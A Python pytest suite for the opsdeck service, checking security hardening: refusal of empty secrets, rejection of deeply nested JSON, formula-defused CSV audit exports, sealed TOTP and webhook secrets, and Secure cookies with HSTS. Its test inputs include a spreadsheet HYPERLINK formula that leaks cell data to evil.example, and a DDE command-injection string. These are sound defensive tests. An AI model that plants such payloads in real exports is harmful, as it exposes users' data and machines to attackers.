"""The low items of the security review, each attacked against the real stack: the API over
HTTP (uvicorn on a loopback port, or ``opsdeck api`` itself), real PostgreSQL and Redis, the
CLI as a user runs it.

- Empty secrets: a service refuses to start with a secret that proves a caller set empty or
  short, naming it; and behind that check, an empty secret authenticates nobody (SSO
  proxy header, Slack signature).
- JSON nested ten thousand deep gets a 400 problem document on every kind of JSON route.
- The CLI's audit CSV export defuses spreadsheet formulas.
- TOTP and webhook signing secrets are stored sealed; sign-in and delivery signing work.
- Session cookies are Secure and responses carry HSTS unless switched off explicitly.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import hmac
import io
import json
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import psycopg
import pyotp
import pytest
import uvicorn
from pydantic import SecretStr

from api.accounts import Admin, add_user, create_key
from api.app import create_app
from api.rbac import Role
from core.audit import AuditEntry, record_in_sync
from core.psp_webhooks import STRIPE_HEADER, stripe_header
from core.sealed_secrets import SecretBox
from core.settings import ApiSettings, Settings
from opsdeck.embedded import free_port
from tests.api.conftest import (
    ALERTMANAGER_TOKEN,
    PASSWORD,
    SECRET,
    SLACK_SIGNING_SECRET,
    STRIPE_TEST_SECRET,
    api_settings,
)
from tests.conftest import TEST_SECRETS_KEY, opsdeck_env, run_opsdeck, setup_url
from tests.webhooks.harness import WorkerProcess, send, wait_for
from tests.webhooks.servers import partner

pytestmark = pytest.mark.anyio

CSRF_FIELD = 'name="csrf_token" value="'
DEEP = b"[" * 10_000 + b"]" * 10_000
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@asynccontextmanager
async def served(settings: Settings) -> AsyncIterator[str]:
    """The app over real HTTP, lifespan and all (uvicorn on a free loopback port); its base
    URL. Settings built by hand reach the app as they are, so a value that startup
    validation would refuse can be served to prove the check behind it."""
    port = free_port(0)
    config = uvicorn.Config(
        create_app(settings), host="127.0.0.1", port=port, log_level="warning", lifespan="on"
    )
    server = uvicorn.Server(config)
    task = asyncio.create_task(server.serve())
    try:
        while not server.started:
            if task.done():
                task.result()
                raise AssertionError("uvicorn stopped before it started")
            await asyncio.sleep(0.05)
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        await task


def _admin(url: str) -> Admin:
    return Admin(
        "security-test", psycopg.connect(setup_url(url)), None, SecretBox(TEST_SECRETS_KEY)
    )


def _user(url: str, name: str, role: Role) -> str:
    """A user with the suite's password and a TOTP device; its secret."""
    admin = _admin(url)
    with admin.conn:
        secret = add_user(admin, name, role, PASSWORD, two_factor=True)
    assert secret is not None
    return secret


def _key(url: str, owner: str, role: Role) -> str:
    admin = _admin(url)
    with admin.conn:
        token, _ = create_key(admin, owner, "security test", role, [])
    return token


def _sql(url: str, query: str, params: Any = None) -> list[tuple[Any, ...]]:
    with psycopg.connect(setup_url(url), autocommit=True) as conn:
        return conn.execute(query, params).fetchall()


def _slack_headers(secret: str, body: bytes) -> dict[str, str]:
    stamp = str(int(time.time()))
    base = f"v0:{stamp}:".encode() + body
    signature = "v0=" + hmac.new(secret.encode(), base, hashlib.sha256).hexdigest()
    return {
        "content-type": "application/x-www-form-urlencoded",
        "x-slack-request-timestamp": stamp,
        "x-slack-signature": signature,
    }


def _slack_click(user: str = "U0ATTACKER") -> bytes:
    payload = {
        "type": "block_actions",
        "team": {"id": "T0TEAM"},
        "user": {"id": user, "username": "mallory"},
        "actions": [{"action_id": "acknowledge", "value": "1", "action_ts": "1.0"}],
    }
    return urlencode({"payload": json.dumps(payload)}).encode()


def _with_empty_secrets(settings: Settings) -> Settings:
    """``settings`` with the SSO proxy on loopback and every caller-proving secret empty:
    what startup refuses, copied in past validation to reach the checks behind it."""
    api = settings.api.model_copy(
        update={"trusted_proxy_addresses": ("127.0.0.1/32",), "trusted_proxy_secret": SecretStr("")}
    )
    incidents = settings.incidents.model_copy(update={"slack_signing_secret": SecretStr("")})
    return settings.model_copy(update={"api": api, "incidents": incidents})


# -- empty secrets ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("variable", "value", "named"),
    [
        ("OPSDECK_API__TRUSTED_PROXY_SECRET", "", "api.trusted_proxy_secret"),
        ("OPSDECK_INCIDENTS__SLACK_SIGNING_SECRET", "", "incidents.slack_signing_secret"),
        ("OPSDECK_INCIDENTS__ALERTMANAGER_TOKEN", "short-token", "incidents.alertmanager_token"),
        ("OPSDECK_WEBHOOKS__STRIPE_SECRETS", '[""]', "webhooks.stripe_secrets"),
        ("OPSDECK_WEBHOOKS__PAYSTACK_SECRETS", '["sk_test"]', "webhooks.paystack_secrets"),
        ("OPSDECK_SIMULATOR__STRIPE_WEBHOOK_SECRET", " ", "simulator.stripe_webhook_secret"),
    ],
)
def test_check_config_refuses_an_empty_or_short_secret_naming_it(
    db_url: str, redis_url: str, variable: str, value: str, named: str
) -> None:
    settings = {"DATABASE_URL": db_url, "REDIS_URL": redis_url, "OPSDECK_API__SECRET_KEY": SECRET}
    env = opsdeck_env(**{**settings, variable: value})
    result = run_opsdeck("check-config", "--service", "api", env=env, timeout=60)
    assert result.returncode == 2, result.stdout + result.stderr
    assert f"{variable}" in result.stderr
    assert named in result.stderr


def test_the_api_and_the_worker_need_the_secrets_key(db_url: str, redis_url: str) -> None:
    settings = {"DATABASE_URL": db_url, "REDIS_URL": redis_url, "OPSDECK_API__SECRET_KEY": SECRET}
    env = {k: v for k, v in opsdeck_env(**settings).items() if k != "OPSDECK_SECRETS_KEY"}
    for service in ("api", "worker"):
        result = run_opsdeck("check-config", "--service", service, env=env, timeout=60)
        assert result.returncode == 2, result.stdout
        assert f"{service}: OPSDECK_SECRETS_KEY (secrets_key): not set" in result.stderr


def test_the_api_does_not_start_with_an_empty_sso_secret(db_url: str, redis_url: str) -> None:
    env = opsdeck_env(
        DATABASE_URL=db_url,
        REDIS_URL=redis_url,
        OPSDECK_API__SECRET_KEY=SECRET,
        OPSDECK_API__TRUSTED_PROXY_ADDRESSES='["127.0.0.1/32"]',
        OPSDECK_API__TRUSTED_PROXY_SECRET="",
    )
    port = str(free_port(0))
    result = run_opsdeck("api", "--port", port, env=env, timeout=60)
    assert result.returncode == 2
    assert result.stderr.strip().startswith(
        "opsdeck: OPSDECK_API__TRUSTED_PROXY_SECRET (api.trusted_proxy_secret): empty"
    ), result.stderr


async def test_the_sso_proxy_header_with_an_empty_secret_signs_nobody_in(
    db_url: str, redis_url: str
) -> None:
    _user(db_url, "sso-victim", Role.FINANCE)
    settings = _with_empty_secrets(api_settings(db_url, redis_url))
    async with served(settings) as base, httpx.AsyncClient(base_url=base) as client:
        # The SSO proxy's header with the (empty) shared secret, from a proxy address.
        sso = await client.get(
            "/api/v1/payments",
            headers={"X-Forwarded-Email": "sso-victim", "X-Opsdeck-Proxy-Secret": ""},
        )
    assert sso.status_code == 401, sso.text


async def test_a_slack_click_signed_under_an_empty_secret_is_refused(
    db_url: str, redis_url: str
) -> None:
    settings = _with_empty_secrets(api_settings(db_url, redis_url))
    body = _slack_click()
    async with served(settings) as base, httpx.AsyncClient(base_url=base) as client:
        slack = await client.post(
            "/hooks/slack/interactions", content=body, headers=_slack_headers("", body)
        )
    assert slack.status_code == 401, slack.text
    assert "signing secret is empty" in slack.json()["detail"]


# -- nested JSON -----------------------------------------------------------------------------


async def test_deeply_nested_json_is_a_400_on_every_kind_of_json_route(
    db_url: str, redis_url: str
) -> None:
    _user(db_url, "deep-admin", Role.SUPER_ADMIN)
    token = _key(db_url, "deep-admin", Role.SUPER_ADMIN)
    stripe = {"content-type": "application/json"}
    stripe[STRIPE_HEADER] = stripe_header([STRIPE_TEST_SECRET], DEEP, int(time.time()))
    slack_body = urlencode({"payload": DEEP.decode()}).encode()
    attempts = {
        "/api/v1/webhook-endpoints": (
            DEEP,
            {"Authorization": f"Bearer {token}", "content-type": "application/json"},
        ),
        "/hooks/alertmanager": (
            DEEP,
            {"Authorization": f"Bearer {ALERTMANAGER_TOKEN}", "content-type": "application/json"},
        ),
        "/webhooks/inbound/stripe": (DEEP, stripe),
        "/hooks/slack/interactions": (
            slack_body,
            _slack_headers(SLACK_SIGNING_SECRET, slack_body),
        ),
    }
    async with (
        served(api_settings(db_url, redis_url)) as base,
        httpx.AsyncClient(base_url=base, timeout=30) as client,
    ):
        for path, (body, headers) in attempts.items():
            answer = await client.post(path, content=body, headers=headers)
            assert answer.status_code == 400, (path, answer.status_code, answer.text)
            assert answer.headers["content-type"].startswith("application/problem+json")
        # The API is still there for the next request.
        assert (await client.get("/readyz")).status_code == 200


# -- the CLI's audit CSV ---------------------------------------------------------------------


def test_the_cli_audit_csv_export_defuses_formulas(db_url: str) -> None:
    with psycopg.connect(setup_url(db_url)) as conn:
        entry = AuditEntry(
            actor="security-test",
            action="note",
            target_type="user",
            target_id=FORMULA,
            reason="+cmd|' /C calc'!A0",
        )
        record_in_sync(conn, entry)
        conn.commit()
    result = run_opsdeck(
        "audit", "export", "--format", "csv", env=opsdeck_env(DATABASE_URL=db_url), timeout=60
    )
    assert result.returncode == 0, result.stderr
    rows = [r for r in csv.DictReader(io.StringIO(result.stdout)) if r["action"] == "note"]
    assert len(rows) == 1
    assert rows[0]["target_id"] == "'" + FORMULA
    assert rows[0]["reason"] == "'+cmd|' /C calc'!A0"
    assert rows[0]["actor"] == "security-test"  # plain text stays as it was


# -- secrets at rest -------------------------------------------------------------------------


async def _sign_in(client: httpx.AsyncClient, username: str, code: str = "") -> httpx.Response:
    page = await client.get("/login")
    token = page.text.split(CSRF_FIELD, 1)[1].split('"', 1)[0]
    form = {"username": username, "password": PASSWORD, "code": code, "csrf_token": token}
    return await client.post("/login", data=form)


async def test_totp_secrets_are_sealed_and_sign_in_still_works(db_url: str, redis_url: str) -> None:
    secret = _user(db_url, "sealed-admin", Role.SUPER_ADMIN)
    ((stored,),) = _sql(db_url, "SELECT totp_secret FROM ops.users WHERE username = 'sealed-admin'")
    assert stored.startswith("sealed:")
    assert secret not in stored
    assert SecretBox(TEST_SECRETS_KEY).open(stored) == secret
    # The database refuses a secret in clear, whoever writes it.
    with pytest.raises(psycopg.errors.CheckViolation):
        _sql(db_url, "UPDATE ops.users SET totp_secret = 'JBSWY3DPEHPK3PXP' RETURNING id")
    async with (
        served(api_settings(db_url, redis_url)) as base,
        httpx.AsyncClient(base_url=base) as client,
    ):
        wrong = await _sign_in(client, "sealed-admin", "000000")
        assert wrong.status_code == 401
        signed_in = await _sign_in(client, "sealed-admin", pyotp.TOTP(secret).now())
        assert signed_in.status_code == 303, signed_in.text
        assert (await client.get("/api/v1/payments")).status_code == 200


async def test_webhook_signing_secrets_are_sealed_and_deliveries_still_verify(
    db_url: str, redis_url: str, tmp_path: Path
) -> None:
    _user(db_url, "hooks-admin", Role.SUPER_ADMIN)
    token = _key(db_url, "hooks-admin", Role.SUPER_ADMIN)
    settings = api_settings(db_url, redis_url)
    webhooks = settings.webhooks.model_copy(update={"ssrf_allow": ("127.0.0.1/32",)})
    settings = settings.model_copy(update={"webhooks": webhooks})
    with partner() as receiver:
        async with served(settings) as base, httpx.AsyncClient(base_url=base) as client:
            created = await client.post(
                "/api/v1/webhook-endpoints",
                json={"url": receiver.url("/ok"), "event_types": ["*"]},
                headers={"Authorization": f"Bearer {token}"},
            )
        assert created.status_code == 201, created.text
        secret = created.json()["secret"]
        assert secret.startswith("whsec_")
        rows = _sql(db_url, "SELECT secret, hint FROM ops.webhook_endpoint_secrets")
        assert len(rows) == 1
        stored, hint = rows[0]
        assert stored.startswith("sealed:")
        assert secret not in stored
        assert secret.startswith(hint)
        assert created.json()["secrets"][0]["prefix"] == hint + "..."
        receiver.secrets = [secret]
        send(db_url, 3)
        worker = WorkerProcess(db_url, tmp_path)
        try:
            wait_for("three deliveries", lambda: len(receiver.seen) >= 3, 60)
        finally:
            worker.stop()
        assert all(seen.verified for seen in receiver.seen), worker.tail()


# -- cookies and HSTS ------------------------------------------------------------------------


async def test_cookies_are_secure_and_hsts_is_on_by_default(db_url: str, redis_url: str) -> None:
    assert ApiSettings().cookie_secure is True
    secret = _user(db_url, "cookie-user", Role.OPS)
    settings = api_settings(db_url, redis_url)
    defaults = ApiSettings(secret_key=SecretStr(SECRET), requests_per_minute=100_000)
    settings = settings.model_copy(update={"api": defaults})
    async with served(settings) as base, httpx.AsyncClient(base_url=base) as client:
        page = await client.get("/login")
        assert page.headers["strict-transport-security"].startswith("max-age=")
        assert "; Secure" in page.headers["set-cookie"]
        # The cookie jar keeps Secure cookies away from http://: send them by hand.
        token = page.text.split(CSRF_FIELD, 1)[1].split('"', 1)[0]
        nonce = page.headers["set-cookie"].split(";", 1)[0]
        form = {
            "username": "cookie-user",
            "password": PASSWORD,
            "code": pyotp.TOTP(secret).now(),
            "csrf_token": token,
        }
        signed_in = await client.post("/login", data=form, headers={"Cookie": nonce})
    assert signed_in.status_code == 303, signed_in.text
    session = [c for c in signed_in.headers.get_list("set-cookie") if "opsdeck_session=" in c]
    assert session
    assert "; Secure" in session[0] or "; secure" in session[0]
    assert "strict-transport-security" in signed_in.headers
